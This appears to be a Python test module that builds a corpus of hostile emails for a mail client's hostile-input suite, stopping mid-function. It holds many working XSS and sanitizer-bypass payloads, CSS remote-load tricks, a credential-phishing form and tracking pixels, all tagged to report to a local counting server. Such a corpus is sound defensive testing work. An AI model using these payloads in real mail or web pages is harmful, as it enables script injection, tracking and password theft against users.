"""A corpus of hostile mail, made here (no third-party corpus copied), for the hostile-input suite.

Every message carries a short token (H001, H002, ...) in its Subject so that a search finds
exactly that message, and every payload says which message it came from: a script that ever
ran would call `alert('H017')` and fetch `<remote_base>/H017/script`, and every remote URL is
`<remote_base>/<token>/<what>`, so a counting HTTP server on loopback tells which message
leaked and through what. The corpus is deterministic: no randomness, one fixed Date.

Run as a script it writes the corpus out as .eml files:

    python dynaoffice_mail/tests/hostile_corpus.py OUTDIR [--remote-base URL]
"""

import argparse
import base64
import os
import urllib.parse
from collections.abc import Callable
from dataclasses import dataclass

__all__ = ["HostileMail", "corpus", "hostile_folder_names", "main"]

KINDS = (
    "script",
    "url-scheme",
    "svg",
    "css",
    "active-element",
    "remote",
    "misdeclared-attachment",
    "header-markup",
    "mime",
)
DATE = "Mon, 06 Jan 2025 09:30:00 +0000"


@dataclass(frozen=True)
class HostileMail:
    name: str  # unique slug, e.g. "svg-animate-href"
    kind: str  # one of KINDS
    token: str  # unique marker such as "H017", in the Subject
    raw: bytes  # the whole RFC 5322 message
    has_attachment: bool  # the reading pane lists an attachment of this mail


@dataclass(frozen=True)
class _Context:
    token: str
    remote_base: str

    def url(self, what):
        return f"{self.remote_base}/{self.token}/{what}"

    @property
    def js(self):
        """A script that shows it ran, both on screen and on the counting server."""
        return f"alert('{self.token}');fetch('{self.url('script')}')"

    @property
    def js_url(self):
        return f"javascript:{self.js}"

    @property
    def svg_script_doc(self):
        """A standalone SVG document that runs script in every way SVG allows."""
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            '<svg xmlns="http://www.w3.org/2000/svg" '
            'xmlns:xlink="http://www.w3.org/1999/xlink" '
            f'width="100" height="100" onload="{self.js}">\n'
            f"<script>{self.js}</script>\n"
            f'<image href="{self.url("svgdoc-image.png")}" width="10" height="10"/>\n'
            f'<a xlink:href="{self.js_url}"><text y="20">{self.token}</text></a>\n'
            "</svg>\n"
        )

    @property
    def html_script_doc(self):
        return (
            "<!DOCTYPE html>\n<html><head>"
            f'<meta http-equiv="refresh" content="0;url={self.url("attached-refresh")}">'
            f"<script>{self.js}</script></head>\n"
            f'<body onload="{self.js}"><img src="{self.url("attached-pixel.gif")}">'
            f"<p>{self.token} attached document</p></body></html>\n"
        )


# --- building blocks --------------------------------------------------------------------------


def _crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


def _headers(c, title, *, sender='"Hostile Sender" <hostile@example.com>', extra=()):
    lines = [
        f"From: {sender}",
        "To: Victim <victim@example.com>",
        f"Subject: {c.token} {title}",
        f"Date: {DATE}",
        f"Message-ID: <{c.token.lower()}.hostile@example.com>",
        "MIME-Version: 1.0",
        *extra,
    ]
    return "\r\n".join(lines) + "\r\n"


def _encode_body(text):
    """(Content-Transfer-Encoding, body): 7bit for short ASCII lines, base64 otherwise."""
    data = _crlf(text).encode("utf-8")
    if data.isascii() and all(len(line) <= 900 for line in data.split(b"\r\n")):
        return "7bit", data
    return "base64", _base64_lines(data)


def _base64_lines(data):
    encoded = base64.b64encode(data)
    return b"\r\n".join(encoded[i : i + 76] for i in range(0, len(encoded), 76)) + b"\r\n"


def _part(content_type, body, *, extra=()):
    """One MIME entity (headers and body) as bytes; str bodies are encoded by _encode_body."""
    if isinstance(body, str):
        encoding, data = _encode_body(body)
    else:
        encoding, data = body
    head = [f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {encoding}", *extra]
    return ("\r\n".join(head) + "\r\n\r\n").encode("ascii") + data


def _multipart(subtype, boundary, parts):
    chunks = [f'Content-Type: multipart/{subtype}; boundary="{boundary}"\r\n\r\n'.encode()]
    chunks.append(b"This is a multi-part message in MIME format.\r\n")
    for part in parts:
        chunks.append(f"--{boundary}\r\n".encode())
        chunks.append(part)
        if not part.endswith(b"\r\n"):
            chunks.append(b"\r\n")
    chunks.append(f"--{boundary}--\r\n".encode())
    return b"".join(chunks)


def _attachment(content_type, filename, data, *, disposition="attachment"):
    return _part(
        f'{content_type}; name="{filename}"',
        ("base64", _base64_lines(data)),
        extra=[f'Content-Disposition: {disposition}; filename="{filename}"'],
    )


def _page(body, head=""):
    return f"<!DOCTYPE html>\n<html><head>{head}</head>\n<body>\n{body}\n</body></html>\n"


def _html_mail(c, title, html, **headers):
    return _headers(c, title, **headers).encode() + _part("text/html; charset=utf-8", html)


def _with_attachment(c, title, html, *attachments):
    body = _part("text/html; charset=utf-8", html)
    return _headers(c, title).encode() + _multipart(
        "mixed", f"=_mixed_{c.token}", [body, *attachments]
    )


def _encoded_word(text, encoding="B", charset="utf-8"):
    data = text.encode(charset)
    if encoding == "B":
        return f"=?{charset}?B?{base64.b64encode(data).decode()}?="
    quoted = "".join(
        chr(byte) if chr(byte).isascii() and chr(byte).isalnum() else f"={byte:02X}"
        for byte in data
    )
    return f"=?{charset}?Q?{quoted}?="


# --- the messages, kind by kind ----------------------------------------------------------------
# Each builder takes the context and returns (raw, has_attachment).


def _script_inline(c):
    html = _page(f"<p>{c.token} inline script</p><script>{c.js}</script>")
    return _html_mail(c, "inline script", html), False


def _script_in_head(c):
    head = f'<script src="{c.url("head.js")}"></script><script>{c.js}</script>'
    return _html_mail(c, "script in head", _page(f"<p>{c.token}</p>", head)), False


def _script_obfuscated(c):
    body = (
        f"<p>{c.token} obfuscated script tags</p>"
        f"<SCRIPT >{c.js}</SCRIPT >"
        f"<scr<script>ipt>{c.js}</scr</script>ipt>"
        f'<script type="text/javascript" defer>{c.js}</script>'
        f'<script type="module">{c.js}</script>'
        f"<script\n>{c.js}</script\n>"
        f'<script/src="{c.url("slash.js")}"></script>'
    )
    return _html_mail(c, "obfuscated script tags", _page(body)), False


def _event_handlers_everywhere(c):
    js = c.js
    body = (
        f"<p>{c.token} event handlers</p>"
        f'<img src="x" onerror="{js}">'
        f'<img src="cid:missing" ONERROR="{js}">'
        f'<div onmouseover="{js}" onclick="{js}">hover</div>'
        f'<a href="#" onclick="{js}" onfocus="{js}" autofocus>focus</a>'
        f'<p tabindex="0" onfocusin="{js}" autofocus>p</p>'
        f'<details open ontoggle="{js}"><summary>s</summary>d</details>'
        f'<table onpointerenter="{js}" background="x" onerror="{js}"><tr><td '
        f'onmouseenter="{js}">td</td></tr></table>'
        f'<marquee onstart="{js}">m</marquee>'
        f'<span onanimationstart="{js}" style="animation:x 1s">a</span>'
        f'<body onpageshow="{js}" onresize="{js}">'
        f"<img src=x onerror={js.replace(' ', '')}>"
        f'<img src="x" onerror = "{js}" >'
        f'<img src="x"/onerror="{js}">'
    )
    return _html_mail(c, "event handlers everywhere", _page(body)), False


def _body_onload(c):
    html = (
        f'<!DOCTYPE html><html onmouseover="{c.js}"><head></head>'
        f'<body onload="{c.js}" onunload="{c.js}"><p>{c.token} body onload</p></body></html>'
    )
    return _html_mail(c, "body onload", html), False


def _noscript_mutation(c):
    body = (
        f"<p>{c.token} mutation XSS</p>"
        f'<noscript><p title="</noscript><img src=x onerror={c.js}>"></noscript>'
        f'<math><mtext><table><mglyph><style><img src=x onerror="{c.js}">'
        "</style></mglyph></table></mtext></math>"
        f'<svg></p><style><a id="</style><img src=x onerror={c.js}>"></style></svg>'
        f"<template><script>{c.js}</script></template>"
        f'<textarea></textarea><img src=x onerror="{c.js}">'
        f'<title><img src=x onerror="{c.js}"></title>'
    )
    return _html_mail(c, "mutation xss", _page(body)), False


def _conditional_comments(c):
    body = (
        f"<p>{c.token} comments</p>"
        f"<!--[if IE]><script>{c.js}</script><![endif]-->"
        f'<!--[if gte mso 9]><img src="{c.url("mso.png")}"><![endif]-->'
        f"<!-- --!><script>{c.js}</script> -->"
        f"<![CDATA[<script>{c.js}</script>]]>"
        f'<? xml <img src=x onerror="{c.js}"> ?>'
    )
    return _html_mail(c, "conditional comments", _page(body)), False


def _xhtml_namespaces(c):
    html = (
        '<?xml version="1.0"?>\n'
        '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml">'
        f"<body><p>{c.token} namespaced script</p>"
        f"<h:script>{c.js}</h:script>"
        f'<h:img src="x" h:onerror="{c.js}"/>'
        f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{c.js}</x:script>'
        "</body></html>"
    )
    return _html_mail(c, "xhtml namespaces", html), False


def _handler_entities(c):
    body = (
        f"<p>{c.token} entities and nulls</p>"
        f'<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(\'{c.token}\')">'
        f'<img src="x" onerror\t="{c.js}">'
        f'<img src="x" onerror\x0c="{c.js}">'
        f'<a href="#" onclick=&quot;{c.js}&quot;>q</a>'
        f'<div data-x="1" onwheel="{c.js}" formaction="{c.js_url}">w</div>'
    )
    return _html_mail(c, "handler entities", _page(body)), False


def _alternative_hostile(c):
    text = _part("text/plain; charset=utf-8", f"{c.token} harmless plain text\n")
    html = _part(
        "text/html; charset=utf-8",
        _page(f'<p>{c.token} alternative</p><script>{c.js}</script><img src="x" onerror="{c.js}">'),
    )
    return _headers(c, "alternative html").encode() + _multipart(
        "alternative", f"=_alt_{c.token}", [text, html]
    ), False


def _javascript_links(c):
    js = c.js
    body = (
        f"<p>{c.token} javascript links</p>"
        f'<a href="javascript:{js}">plain</a>'
        f'<a href="JaVaScRiPt:{js}">mixed case</a>'
        f'<a href="  javascript:{js}">leading space</a>'
        f'<a href="java&#x09;script:{js}">tab entity</a>'
        f'<a href="java\nscript:{js}">newline</a>'
        f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{js}">entities</a>'
        f'<a href="&#x6A;avascript&colon;{js}">named colon</a>'
        f'<a href="javascript&#0000058;{js}">padded colon</a>'
        f'<a href="\x01javascript:{js}">control char</a>'
        f'<a href="javascript%3A{js}">percent colon</a>'
        f'<area href="{c.js_url}" shape="rect" coords="0,0,10,10">'
        f'<map name="m"><area href="{c.js_url}" shape="rect" coords="0,0,9,9"></map>'
        f'<img src="{c.url("map.png")}" usemap="#m">'
    )
    return _html_mail(c, "javascript links", _page(body)), False


def _vbscript_links(c):
    body = (
        f"<p>{c.token} vbscript and livescript</p>"
        f'<a href="vbscript:MsgBox(&quot;{c.token}&quot;)">vb</a>'
        f'<a href="VBSCRIPT:MsgBox(&quot;{c.token}&quot;)">VB</a>'
        f'<a href="livescript:{c.js}">live</a>'
        f'<a href="mocha:{c.js}">mocha</a>'
        f'<img src="vbscript:MsgBox(&quot;{c.token}&quot;)">'
    )
    return _html_mail(c, "vbscript links", _page(body)), False


def _data_urls(c):
    html_doc = base64.b64encode(f"<script>{c.js}</script>".encode()).decode()
    svg_doc = base64.b64encode(c.svg_script_doc.encode()).decode()
    body = (
        f"<p>{c.token} data urls</p>"
        f'<a href="data:text/html;base64,{html_doc}">html</a>'
        f'<a href="data:text/html,&lt;script&gt;{c.js}&lt;/script&gt;">html plain</a>'
        f'<a href="DATA:text/html;base64,{html_doc}">upper</a>'
        f'<img src="data:image/svg+xml;base64,{svg_doc}">'
        f'<img src="data:text/html;base64,{html_doc}">'
        f'<img src="data:application/xhtml+xml;base64,{html_doc}">'
        f'<img src="data:image/svg+xml,{urllib.parse.quote(c.svg_script_doc)}">'
        f'<a href="data:application/javascript,{urllib.parse.quote(c.js)}">js</a>'
    )
    return _html_mail(c, "data urls", _page(body)), False


def _javascript_images(c):
    body = (
        f"<p>{c.token} javascript images</p>"
        f'<img src="{c.js_url}">'
        f'<img dynsrc="{c.js_url}" lowsrc="{c.js_url}">'
        f'<img src="jav&#x0A;ascript:{c.js}">'
        f'<table background="{c.js_url}"><tr><td background="{c.js_url}">t</td></tr></table>'
        f'<body background="{c.js_url}">'
        f'<input type="image" src="{c.js_url}">'
        f'<img longdesc="{c.js_url}" src="cid:nothing">'
    )
    return _html_mail(c, "javascript images", _page(body)), False


def _form_actions(c):
    body = (
        f"<p>{c.token} javascript form actions</p>"
        f'<form action="{c.js_url}"><button>go</button></form>'
        f'<form><button formaction="{c.js_url}">go</button></form>'
        f'<form action="{c.url("form-js")}" onsubmit="{c.js}"><input type="submit"></form>'
        f'<isindex action="{c.js_url}" type="image" src="{c.url("isindex.png")}">'
    )
    return _html_mail(c, "form actions", _page(body)), False


def _srcset(c):
    body = (
        f"<p>{c.token} srcset</p>"
        f'<img src="cid:none" srcset="{c.js_url} 1x, {c.url("srcset-2x.png")} 2x">'
        f'<img srcset="{c.url("srcset-only.png")}">'
        f'<picture><source srcset="{c.url("source-srcset.png")}" type="image/png">'
        f'<source srcset="data:text/html;base64,PHNjcmlwdD4=">'
        f'<img src="{c.url("picture-img.png")}"></picture>'
        f'<img sizes="10px" srcset="{c.url("w.png")} 100w,{c.js_url} 200w">'
        f'<img imagesrcset="{c.url("imagesrcset.png")}">'
    )
    return _html_mail(c, "srcset", _page(body)), False


def _svg_links(c):
    body = (
        f"<p>{c.token} svg links</p>"
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<a href="{c.js_url}"><text y="10">href</text></a>'
        f'<a xlink:href="{c.js_url}"><text y="20">xlink</text></a>'
        f'<a xlink:href="data:text/html;base64,PHNjcmlwdD4="><text y="30">data</text></a>'
        "</svg>"
    )
    return _html_mail(c, "svg href", _page(body)), False


def _math_links(c):
    body = (
        f"<p>{c.token} mathml links</p>"
        f'<math href="{c.js_url}"><mi>x</mi></math>'
        f'<math><maction actiontype="statusline" xlink:href="{c.js_url}">'
        f"<mtext>m</mtext><mtext>s</mtext></maction></math>"
        f'<math><mi xlink:href="{c.js_url}">click</mi></math>'
    )
    return _html_mail(c, "mathml href", _page(body)), False


def _svg_animate_href(c):
    body = (
        f"<p>{c.token} svg animate</p>"
        '<svg xmlns="http://www.w3.org/2000/svg"><a>'
        f'<animate attributeName="href" values="{c.js_url}" begin="0s" fill="freeze"/>'
        '<text y="20">animate</text></a>'
        f'<animate onbegin="{c.js}" attributeName="x" dur="1s"/>'
        f'<a><animate attributeName="xlink:href" from="{c.js_url}" to="{c.js_url}"/>'
        '<text y="40">from-to</text></a></svg>'
    )
    return _html_mail(c, "svg animate href", _page(body)), False


def _svg_set(c):
    body = (
        f"<p>{c.token} svg set</p>"
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<a><set attributeName="xlink:href" to="{c.js_url}"/><text y="20">set</text></a>'
        f'<set attributeName="onmouseover" to="{c.js}"/>'
        f'<set onbegin="{c.js}" attributeName="x" to="1" begin="0s"/>'
        "</svg>"
    )
    return _html_mail(c, "svg set", _page(body)), False


def _svg_use(c):
    svg_doc = base64.b64encode(c.svg_script_doc.encode()).decode()
    body = (
        f"<p>{c.token} svg use</p>"
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<use href="{c.url("use.svg")}#x"/>'
        f'<use xlink:href="{c.url("use-xlink.svg")}#x"/>'
        f'<use href="data:image/svg+xml;base64,{svg_doc}#x"/>'
        "</svg>"
    )
    return _html_mail(c, "svg use", _page(body)), False


def _svg_foreign_object(c):
    body = (
        f"<p>{c.token} svg foreignObject</p>"
        '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="100" height="100">'
        f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{c.url("foreign-iframe")}"></iframe>'
        f'<script xmlns="http://www.w3.org/1999/xhtml">{c.js}</script>'
        f'<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{c.js}"/>'
        "</foreignObject></svg>"
    )
    return _html_mail(c, "svg foreignObject", _page(body)), False


def _svg_feimage(c):
    body = (
        f"<p>{c.token} svg feImage</p>"
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<filter id="f"><feImage href="' + c.url("feimage.png") + '"/>'
        '<feImage xlink:href="' + c.url("feimage-xlink.png") + '"/></filter>'
        '<rect width="10" height="10" filter="url(#f)"/>'
        f'<rect width="10" height="10" filter="url({c.url("filter.svg")}#f)"/>'
        f'<image href="{c.url("svg-image.png")}" width="10" height="10"/>'
        f'<image xlink:href="{c.url("svg-image-xlink.png")}" width="10" height="10"/>'
        "</svg>"
    )
    return _html_mail(c, "svg feImage", _page(body)), False


def _svg_script_handlers(c):
    body = (
        f"<p>{c.token} svg script</p>"
        f'<svg onload="{c.js}"><script>{c.js}</script>'
        f'<script href="{c.url("svg-script.js")}"></script>'
        f'<circle r="5" onclick="{c.js}"/><style>@import url("{c.url("svg-style.css")}");'
        "</style></svg>"
        f'<svg><script xlink:href="data:,{urllib.parse.quote(c.js)}"></script></svg>'
    )
    return _html_mail(c, "svg script and handlers", _page(body)), False


def _svg_inline_part(c):
    """An SVG with script as the cid: image of the HTML part, declared image/svg+xml."""
    html = _part(
        "text/html; charset=utf-8",
        _page(f'<p>{c.token} cid svg</p><img src="cid:drawing@{c.token.lower()}">'),
    )
    svg = _part(
        "image/svg+xml",
        ("base64", _base64_lines(c.svg_script_doc.encode())),
        extra=[
            f"Content-ID: <drawing@{c.token.lower()}>",
            'Content-Disposition: inline; filename="drawing.svg"',
        ],
    )
    return _headers(c, "svg as inline cid image").encode() + _multipart(
        "related", f"=_rel_{c.token}", [html, svg]
    ), True


def _css_url_background(c):
    body = (
        f"<p>{c.token} css url</p>"
        f'<div style="background:url({c.url("bg.png")})">bg</div>'
        f"<div style=\"background-image:url('{c.url('bg-quoted.png')}')\">bq</div>"
        f'<div style="background: #fff url(&quot;{c.url("bg-entity.png")}&quot;)">be</div>'
        f'<ul style="list-style-image:url({c.url("list.png")})"><li>l</li></ul>'
        f'<div style="cursor:url({c.url("cursor.cur")}),auto">c</div>'
        f'<div style="border-image:url({c.url("border.png")}) 30">b</div>'
        f'<div style="mask:url({c.url("mask.svg")}#m);'
        f'-webkit-mask-image:url({c.url("wm.png")})">m</div>'
        f'<div style="content:url({c.url("content.png")})">c</div>'
        f'<div style="filter:url({c.url("filter.svg")}#f)">f</div>'
        f'<div style="shape-outside:url({c.url("shape.png")});float:left">s</div>'
    )
    return _html_mail(c, "css url", _page(body)), False


def _css_import(c):
    head = (
        f'<style>@import url("{c.url("import.css")}");\n'
        f"@import '{c.url('import-string.css')}';\n"
        f"@import url({c.url('import-media.css')}) screen;\n"
        f'@IMPORT "{c.url("import-upper.css")}";\n'
        "p { color: red }</style>"
    )
    body = (
        f"<p>{c.token} css import</p>"
        f'<style>@import "{c.url("import-body.css")}";</style>'
        f'<div style="@import url({c.url("import-attr.css")})">a</div>'
    )
    return _html_mail(c, "css import", _page(body, head)), False


def _css_image_set(c):
    body = (
        f"<p>{c.token} css image-set</p>"
        f'<div style="background-image:image-set(&quot;{c.url("imageset.png")}&quot; 1x)">i</div>'
        f'<div style="background-image:-webkit-image-set(url({c.url("wimageset.png")}) 1x)">w</div>'
        f'<style>.x{{background:image-set("{c.url("imageset-style.png")}" 1x, '
        f'"{c.url("imageset-2x.png")}" 2x)}}</style><div class="x">x</div>'
        f'<div style="background:cross-fade(url({c.url("xfade.png")}), red 50%)">x</div>'
        f'<div style="background:-webkit-cross-fade(url({c.url("wxf.png")}),url(x),50%)">y</div>'
        f'<div style="background:image(&quot;{c.url("image-fn.png")}&quot;)">z</div>'
    )
    return _html_mail(c, "css image-set", _page(body)), False


def _css_expression(c):
    body = (
        f"<p>{c.token} css expression</p>"
        f"<div style=\"width:expression(alert('{c.token}'))\">e</div>"
        f"<div style=\"width:EXPRESSION(alert('{c.token}'))\">E</div>"
        f'<div style="behavior:url({c.url("behavior.htc")})">b</div>'
        f'<div style="-moz-binding:url({c.url("binding.xml")}#x)">m</div>'
        f'<div style="background:url({c.js_url})">j</div>'
        f"<div style=\"background:url(&quot;javascript:alert('{c.token}')&quot;)\">q</div>"
        f'<style>div{{xss:expression(alert("{c.token}"))}}'
        f'a{{background:url("vbscript:MsgBox(1)")}}</style>'
    )
    return _html_mail(c, "css expression", _page(body)), False


def _css_escapes(c):
    rest = c.url("escape.png")
    body = (
        f"<p>{c.token} css escapes</p>"
        f'<div style="background:\\75 rl({c.url("escape-u.png")})">u</div>'
        f'<div style="background:u\\72 l({rest})">r</div>'
        f'<div style="background:u\\000072l({c.url("escape-6.png")})">6</div>'
        f'<div style="background:\\u\\r\\l({c.url("escape-bs.png")})">bs</div>'
        f'<div style="background:url(\\{c.url("escape-in.png")})">in</div>'
        f"<div style=\"width:e\\78 pression(alert('{c.token}'))\">x</div>"
        f"<div style=\"width:\\65 xpression(alert('{c.token}'))\">e</div>"
        f"<style>@\\69 mport url({c.url('escape-import.css')});"
        f".e{{background:\\000075rl({c.url('escape-style.png')})}}</style>"
        f'<div style="background:&#117;rl({c.url("escape-entity.png")})">&amp;</div>'
        f'<div style="background:url(&#x68;ttp{c.url("escape-hex.png")[4:]})">h</div>'
    )
    return _html_mail(c, "css escapes", _page(body)), False


def _css_comments(c):
    body = (
        f"<p>{c.token} css comments</p>"
        f'<div style="background:ur/**/l({c.url("comment-in.png")})">a</div>'
        f'<div style="background:url/**/({c.url("comment-before.png")})">b</div>'
        f"<div style=\"width:expr/**/ession(alert('{c.token}'))\">c</div>"
        f"<div style=\"width:expression/*x*/(alert('{c.token}'))\">d</div>"
        f"<style>@im/**/port url({c.url('comment-import.css')});"
        f'/*</style><img src=x onerror="{c.js}">*/'
        f".c{{background:/* */url(/**/{c.url('comment-arg.png')})}}</style>"
        f'<div style="/*";background:url({c.url("comment-quote.png")});/**/">e</div>'
        f'<div style="background:url({c.url("comment-unclosed.png")}">f</div>'
        f'<style>.u{{background:url("{c.url("unclosed-string.png")}</style><p>after</p>'
    )
    return _html_mail(c, "css comments", _page(body)), False


def _css_font_face(c):
    head = (
        "<style>@font-face{font-family:Hostile;"
        f'src:url({c.url("font.woff2")}) format("woff2"),'
        f"url('{c.url('font.ttf')}');}}\n"
        f'@font-face{{font-family:Local;src:local("Arial"),url({c.url("font-local.woff")})}}\n'
        "body{font-family:Hostile}</style>"
    )
    body = (
        f"<p>{c.token} remote font</p>"
        f'<p style="font-family:Hostile">text</p>'
        f"<style>@namespace url({c.url('namespace')});"
        f"@document url-prefix({c.url('doc')}){{p{{color:red}}}}"
        f"@supports (background:url({c.url('supports.png')})){{p{{color:blue}}}}"
        f"@media screen{{p{{background:url({c.url('media.png')})}}}}</style>"
    )
    return _html_mail(c, "remote fonts", _page(body, head)), False


def _css_in_style_elements(c):
    body = (
        f"<p>{c.token} css selectors that load</p>"
        f'<style>input[value^="a"]{{background:url({c.url("attr-leak.png")})}}'
        f"p:hover{{background:url({c.url('hover.png')})}}"
        f"p::before{{content:url({c.url('before.png')})}}"
        f"@page{{background:url({c.url('page.png')})}}"
        f"@keyframes k{{from{{background:url({c.url('keyframe.png')})}}}}"
        f"</style>"
        f'<div style="--x:url({c.url("custom-property.png")});background:var(--x)">v</div>'
        f'<div style="background:url( {c.url("spaced.png")} )">s</div>'
        f'<div style="background:URL({c.url("upper.png")})">U</div>'
    )
    return _html_mail(c, "css that loads", _page(body)), False


def _meta_refresh(c):
    head = (
        f'<meta http-equiv="refresh" content="0;url={c.url("refresh")}">'
        f'<meta http-equiv="Refresh" content="1; URL={c.js_url}">'
        f'<meta http-equiv="set-cookie" content="h={c.token}">'
        '<meta http-equiv="Content-Security-Policy" content="default-src *">'
        '<meta name="referrer" content="unsafe-url">'
    )
    body = (
        f"<p>{c.token} meta refresh</p>"
        f'<meta http-equiv="refresh" content="0;url={c.url("refresh-body")}">'
    )
    return _html_mail(c, "meta refresh", _page(body, head)), False


def _base_href(c):
    head = f'<base href="{c.url("base/")}"><base target="_top">'
    body = (
        f"<p>{c.token} base</p>"
        '<img src="relative-pixel.gif"><a href="relative-link">relative</a>'
        f'<base href="{c.url("base-body/")}"><img src="/absolute-path.png">'
        # Protocol-relative: still the counting server's host, without the scheme.
        f'<img src="{c.url("protocol-relative.png").split(":", 1)[1]}">'
    )
    return _html_mail(c, "base href", _page(body, head)), False


def _form(c):
    body = (
        f"<p>{c.token} form</p>"
        f'<form action="{c.url("form")}" method="post">'
        '<label>Password <input type="password" name="password"></label>'
        '<input type="hidden" name="account" value="victim">'
        f'<input type="image" src="{c.url("form-input.png")}">'
        "<select name=s><option>o</option></select><textarea name=t>t</textarea>"
        "<button>Log in again</button></form>"
        f'<button form="f" formaction="{c.url("formaction")}">outside</button>'
        f'<form id="f" action="{c.url("form-2")}"></form>'
    )
    return _html_mail(c, "phishing form", _page(body)), False


def _iframes(c):
    body = (
        f"<p>{c.token} iframes</p>"
        f'<iframe src="{c.url("iframe")}"></iframe>'
        f'<iframe srcdoc="&lt;script&gt;{c.js}&lt;/script&gt;"></iframe>'
        f'<iframe src="{c.js_url}"></iframe>'
        f'<iframe src="data:text/html,&lt;script&gt;{c.js}&lt;/script&gt;"></iframe>'
        f'<frameset><frame src="{c.url("frame")}"></frameset>'
        f'<portal src="{c.url("portal")}"></portal>'
        f'<fencedframe src="{c.url("fenced")}"></fencedframe>'
    )
    return _html_mail(c, "iframes", _page(body)), False


def _object_embed(c):
    body = (
        f"<p>{c.token} object and embed</p>"
        f'<object data="{c.url("object.swf")}" type="application/x-shockwave-flash">'
        f'<param name="movie" value="{c.url("param.swf")}"></object>'
        f'<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
        f'<embed src="{c.url("embed.swf")}">'
        f'<embed src="data:image/svg+xml;base64,'
        f'{base64.b64encode(c.svg_script_doc.encode()).decode()}">'
        f'<applet code="X.class" codebase="{c.url("applet")}"></applet>'
        f'<object classid="clsid:x" codebase="{c.url("codebase")}"></object>'
    )
    return _html_mail(c, "object and embed", _page(body)), False


def _link_elements(c):
    head = (
        f'<link rel="stylesheet" href="{c.url("link.css")}">'
        f'<link rel="preload" as="font" href="{c.url("preload.woff2")}" crossorigin>'
        f'<link rel="prefetch" href="{c.url("prefetch")}">'
        f'<link rel="dns-prefetch" href="{c.url("dns-prefetch")}">'
        f'<link rel="preconnect" href="{c.url("preconnect")}">'
        f'<link rel="icon" href="{c.url("favicon.ico")}">'
        f'<link rel="import" href="{c.url("html-import.html")}">'
        f'<link rel="modulepreload" href="{c.url("module.js")}">'
    )
    body = f'<p>{c.token} link</p><link rel="stylesheet" href="{c.url("link-body.css")}">'
    return _html_mail(c, "link elements", _page(body, head)), False


def _media_elements(c):
    body = (
        f"<p>{c.token} media</p>"
        f'<video src="{c.url("video.mp4")}" poster="{c.url("poster.png")}" autoplay>'
        f'<source src="{c.url("source.webm")}"><track src="{c.url("track.vtt")}"></video>'
        f'<audio src="{c.url("audio.mp3")}" autoplay></audio>'
        f'<bgsound src="{c.url("bgsound.mid")}">'
        f'<img src="{c.url("ping-img.png")}" loading="lazy">'
        f'<a href="{c.url("link")}" ping="{c.url("ping")}">pinging link</a>'
        f'<a href="{c.url("download")}" download>download link</a>'
    )
    return _html_mail(c, "media elements", _page(body)), False


def _tracking_pixel(c):
    body = (
        f"<p>{c.token} newsletter with a tracking pixel</p>"
        f'<img src="{c.url("pixel.gif")}" width="1" height="1" alt="">'
        f'<img src="{c.url("pixel.gif")}?uid=victim%40example.com" style="display:none">'
        f'<img src="{c.url("logo.png")}" alt="logo">'
    )
    return _html_mail(c, "tracking pixel", _page(body)), False


def _remote_background(c):
    body = (
        f"<p>{c.token} remote backgrounds</p>"
        f'<table background="{c.url("table-bg.png")}"><tr>'
        f'<td background="{c.url("td-bg.png")}">t</td></tr></table>'
        f'<div style="background-image:url({c.url("div-bg.png")})">d</div>'
    )
    html = f'<!DOCTYPE html><html><body background="{c.url("body-bg.png")}">{body}</body></html>'
    return _html_mail(c, "remote backgrounds", html), False


def _remote_url_variants(c):
    scheme, rest = c.remote_base.split(":", 1)
    body = (
        f"<p>{c.token} remote URL variants</p>"
        f'<img src="{rest}/{c.token}/protocol-relative.png">'
        f'<img src="{scheme.upper()}:{rest}/{c.token}/upper-scheme.png">'
        f'<img src=" {c.url("leading-space.png")}">'
        f'<img src="{scheme}:\\\\{rest.lstrip("/")}/{c.token}/backslash.png">'
        f'<img src="{scheme}&#58;{rest}/{c.token}/entity-colon.png">'
        f'<img src="{c.url("tab.png").replace(":", ":&#9;", 1)}">'
        f'<img src="{scheme}:/{rest.lstrip("/")}/{c.token}/one-slash.png">'
    )
    return _html_mail(c, "remote url variants", _page(body)), False


def _remote_links_allowed(c):
    """Ordinary links: not loaded by themselves, but they must not leak through the referrer."""
    body = (
        f"<p>{c.token} plain links</p>"
        f'<a href="{c.url("clicked")}" target="_self">same window</a>'
        f'<a href="{c.url("clicked-top")}" target="_top" rel="opener">top</a>'
        '<a href="mailto:victim@example.com?subject=x">mail</a>'
        f'<a href="{c.url("clicked-relative")[:0]}relative/path">relative</a>'
    )
    return _html_mail(c, "links and targets", _page(body)), False


def _plain_text_markup(c):
    text = (
        f"{c.token} plain text that looks like HTML\n"
        f"<script>{c.js}</script>\n"
        f'<img src="{c.url("plain-text.png")}" onerror="{c.js}">\n'
        f"{c.url('plain-link')}\n"
        f"javascript:{c.js}\n"
    )
    return _headers(c, "plain text with markup").encode() + _part(
        "text/plain; charset=utf-8", text
    ), False


def _flowed_text_markup(c):
    text = (
        f"{c.token} format=flowed markup \n"
        f"<scr \nipt>{c.js}</scr \nipt>\n"
        f'> <iframe src="{c.url("quoted-iframe")}">\n'
    )
    return _headers(c, "flowed text with markup").encode() + _part(
        "text/plain; charset=utf-8; format=flowed", text
    ), False


def _html_as_image(c):
    html = _page(f"<p>{c.token} see the photo</p>")
    return _with_attachment(
        c,
        "html sent as image",
        html,
        _attachment("image/png", "photo.png", c.html_script_doc.encode()),
    ), True


def _svg_as_png(c):
    html = _page(f"<p>{c.token} see the chart</p>")
    return _with_attachment(
        c,
        "svg sent as png",
        html,
